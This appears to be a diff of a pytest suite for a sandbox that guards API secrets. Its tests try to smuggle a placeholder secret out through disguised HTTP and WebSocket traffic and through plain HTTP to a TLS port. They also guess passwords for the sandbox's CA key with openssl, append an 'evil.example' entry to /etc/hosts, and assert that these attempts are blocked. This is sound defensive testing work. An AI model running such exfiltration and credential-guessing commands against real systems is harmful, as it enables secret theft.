@@ -6,9 +6,7 @@ import base64
 import json
 import re
 import socket
-import struct
 from collections.abc import Iterator
-from contextlib import suppress
 from urllib.parse import quote
 
 import pytest
@@ -115,11 +113,19 @@ def hidden(placeholder: str) -> dict[str, bytes]:
         "trailer name": _chunked(b"body", 4, raw + b": x\r\n"),
         "after much else": _post(long + raw + long),
         "chunked after much else": _chunked(long + raw, 65536),
-        "expect": get("/", host, "Expect: 100-continue", "Content-Length: %d" % len(raw),
+        "expect": get("/", host, "Expect: 100-continue", f"Content-Length: {len(raw)}",
                       method="POST") + raw,
         "upgrade": get("/", host, "Upgrade: " + placeholder).replace(b"close", b"upgrade"),
         "base64 of base64, which is not looked into": _post(twice),
     }  # fmt: skip
+
+
+def _sent(data: bytes, *, by_proxy: bool) -> dict[str, object]:
+    words = {"data": data, "is_open": b"onnection: close" in data}
+    if not by_proxy:
+        return {"host": "other.example", "port": 80, **words}
+    absolute = data.replace(b" /", b" http://other.example/", 1)
+    return {"host": PROXY[0], "port": PROXY[1], **words, "data": absolute}
 
 
 # Nothing can be made of a placeholder. Whoever encodes it twice, compresses or encrypts it sends
@@ -132,13 +138,7 @@ def test_a_placeholder_does_not_leave_in_any_disguise(
 ) -> None:
     said = hidden(placeholder)
     for by_proxy in (False, True):
-        words = {
-            name: {"host": "other.example", "port": 80, "data": data, "is_open": True}
-            if not by_proxy
-            else {"host": PROXY[0], "port": PROXY[1], "is_open": True,
-                  "data": data.replace(b" /", b" http://other.example/", 1)}
-            for name, data in said.items()
-        }  # fmt: skip
+        words = {name: _sent(data, by_proxy=by_proxy) for name, data in said.items()}
         answers = say_all(box, words)
         let_through = {
             name for name, answer in answers.items() if status(answer) not in (0, 400, 403)
@@ -209,100 +209,6 @@ def test_a_placeholder_does_not_leave_as_a_name(
     assert any(about["secret"] == "API_KEY" for about in alerts(box, "secret.misplaced"))
 
 
-FRAMES = """
-import base64, os, socket, struct
-def frame(opcode, data, fin=True):
-    mask = os.urandom(4)
-    size = bytes([0x80 | len(data)]) if len(data) < 126 else bytes([0xfe]) + struct.pack("!H", len(data))
-    return bytes([0x80 * fin | opcode]) + size + mask + bytes(c ^ mask[i % 4] for i, c in enumerate(data))
-def websocket(host, *frames):
-    sock = socket.create_connection((host, 80), 20)
-    sock.sendall((f"GET /ws HTTP/1.1\\r\\nHost: {host}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
-                  "Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n").encode())
-    answer = b""
-    while b"\\r\\n\\r\\n" not in answer:
-        answer += sock.recv(4096)
-    head, _, answer = answer.partition(b"\\r\\n\\r\\n")
-    sock.sendall(b"".join(frames))
-    try:
-        while more := sock.recv(4096):
-            answer += more
-    except OSError:
-        pass
-    return base64.b64encode(answer).decode()
-raw = sys.argv[2].encode()
-half = len(raw) // 2
-ways = {
-    "text": [frame(1, raw)],
-    "binary": [frame(2, b"x" + raw)],
-    "fragments": [frame(1, raw[:half], False), frame(0, raw[half:])],
-    "two messages": [frame(1, raw[:half]), frame(1, raw[half:])],
-    "base64": [frame(1, base64.b64encode(raw))],
-    "ping": [frame(9, raw)],
-    "pong": [frame(10, raw)],
-    "farewell": [frame(8, struct.pack("!H", 1000) + raw)],
-    "ping between fragments": [frame(1, raw[:half], False), frame(9, b"x"), frame(0, raw[half:])],
-}
-for name, frames in ways.items():
-    found[name] = websocket(sys.argv[1], *frames, frame(8, struct.pack("!H", 1000)))
-"""
-
-
-def echo_frames(sock: socket.socket, heard: bytearray) -> None:
-    """A WebSocket server that keeps what it hears, unmasked, and says goodbye."""
-    data = b""
-    while b"\r\n\r\n" not in data:
-        data += sock.recv(4096)
-    accept = b"s3pPLMBiTxaQ9kYGzzhZRbK+xOo="
-    sock.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
-                 b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")  # fmt: skip
-    data = data.partition(b"\r\n\r\n")[2]
-    with suppress(OSError):
-        while True:
-            while len(data) < 2 or len(data) < _frame_size(data):
-                more = sock.recv(4096)
-                if not more:
-                    return
-                data += more
-            start = 2 if data[1] & 127 < 126 else 4
-            size, mask = _frame_size(data), data[start : start + 4]
-            body = bytes(c ^ mask[i % 4] for i, c in enumerate(data[start + 4 : size]))
-            heard += body
-            if data[0] & 15 == 8:
-                sock.sendall(b"\x88\x02\x03\xe8")
-                return
-            data = data[size:]
-
-
-def _frame_size(data: bytes) -> int:
-    size = data[1] & 127
-    if size == 126:
-        return 8 + int(struct.unpack("!H", data[2:4])[0]) if len(data) >= 4 else 1 << 20
-    return 6 + size
-
-
-def test_a_placeholder_does_not_leave_in_a_websocket(
-    hosts: Hosts, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    heard = bytearray()
-    monkeypatch.setenv("ATTACKED_KEY", VALUE)
-    with scripted(lambda sock: echo_frames(sock, heard)) as origin:
-        network = {"allow": ["api.example:80", "ws.example:80"],
-                   "hosts": {"api.example": hosts.api.place, "ws.example": origin.place}}  # fmt: skip
-        secrets = {"API_KEY": {"from": "env:ATTACKED_KEY", "to": ["api.example"]}}
-        with Sandbox.create(network=network, secrets=secrets) as box:
-            placeholder = shell(box, "printenv API_KEY").stdout.strip()
-            assert probe(box, FRAMES, "ws.example", "hello")
-            assert heard.count(b"hello") >= 6
-            heard.clear()
-            probe(box, FRAMES, "ws.example", placeholder)
-            assert placeholder.encode() not in heard
-            assert base64.b64encode(placeholder.encode())[:20] not in heard
-            assert {"secret": "API_KEY", "host": "ws.example", "port": 80} in alerts(
-                box, "secret.misplaced"
-            )
-
-
 def test_the_value_is_nowhere_inside_nor_in_the_journal(
     box: Sandbox, hosts: Hosts, placeholder: str
 ) -> None:
@@ -332,8 +238,8 @@ def test_the_key_of_the_sandboxs_authority_is_not_inside(box: Sandbox) -> None:
     assert "/run" not in done.stdout.replace("/run/paddock:", ""), done.stdout
     done = shell(
         box,
-        "cd /tmp && openssl pkcs12 -in /run/paddock/ca.p12 -nodes -nocerts -passin pass:changeit 2>&1;"
-        "openssl pkcs12 -in /run/paddock/ca.p12 -nodes -nocerts -passin pass: 2>&1",
+        "for word in changeit '' changeme; do openssl pkcs12 -in /run/paddock/ca.p12"
+        " -nodes -nocerts -passin pass:$word 2>&1; done",
     )
     assert "BEGIN" not in done.stdout
 
@@ -342,8 +248,8 @@ def test_what_a_sandbox_does_to_its_own_names_and_authorities_changes_nothing(
     box: Sandbox, hosts: Hosts, placeholder: str
 ) -> None:
     """They are files for the convenience of its programs. The door does not read them."""
-    shell(box, "for f in /run/paddock/* /etc/resolv.conf; do (echo x >> $f); done;"
-               " echo 1.1.1.1 api.example >> /etc/hosts; echo 127.0.0.1 evil.example >> /etc/hosts")  # fmt: skip
+    shell(box, "for f in /run/paddock/* /etc/resolv.conf; do (echo x >> $f); done")
+    shell(box, "(echo 1.1.1.1 api.example; echo 127.0.0.1 evil.example) >> /etc/hosts")
     assert status(say(box, host="1.1.1.1", port=80, data=get("/", "api.example"))) == 0
     evil = get("http://evil.example/", "evil.example")
     assert status(say(box, host=PROXY[0], port=PROXY[1], data=evil)) == 403
@@ -352,3 +258,38 @@ def test_what_a_sandbox_does_to_its_own_names_and_authorities_changes_nothing(
         assert "evil" not in shell(second, "cat /etc/hosts").stdout
         done = shell(second, "curl -s -o /dev/null -w '%{http_code}' https://secure.example/")
         assert done.stdout == "200"
+
+
+def test_a_value_does_not_leave_in_clear_to_a_port_that_is_for_tls(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Whoever allows port 443 means TLS. An agent that speaks plain HTTP to it would have the
+    value sent over the network for everybody to read."""
+    heard = bytearray()
+
+    def listen(sock: socket.socket) -> None:
+        while data := sock.recv(4096):
+            heard.extend(data)
+            sock.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")
+
+    monkeypatch.setenv("ATTACKED_KEY", VALUE)
+    secrets = {
+        "API_KEY": {"from": "env:ATTACKED_KEY", "to": ["plain.example"],
+                    "as": "header:Authorization=Bearer"},
+    }  # fmt: skip
+    with scripted(listen) as origin:
+        network = {"allow": ["plain.example:443"], "hosts": {"plain.example": origin.place}}
+        with Sandbox.create(network=network, secrets=secrets) as box:
+            said = {
+                "old": b"GET / HTTP/1.0\r\n\r\n",
+                "new": get("/", "plain.example:443"),
+                "h2c": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
+            }
+            words = {n: {"host": "plain.example", "port": 443, "data": d} for n, d in said.items()}
+            absolute = get("http://plain.example:443/", "plain.example:443")
+            words["proxy"] = {"host": PROXY[0], "port": PROXY[1], "data": absolute}
+            answers = say_all(box, words)
+            assert {n: status(a) for n, a in answers.items()} == {
+                "old": 403, "new": 403, "h2c": 0, "proxy": 403}  # fmt: skip
+            assert len(steps(box, "http")) == 3
+    assert VALUE.encode() not in heard
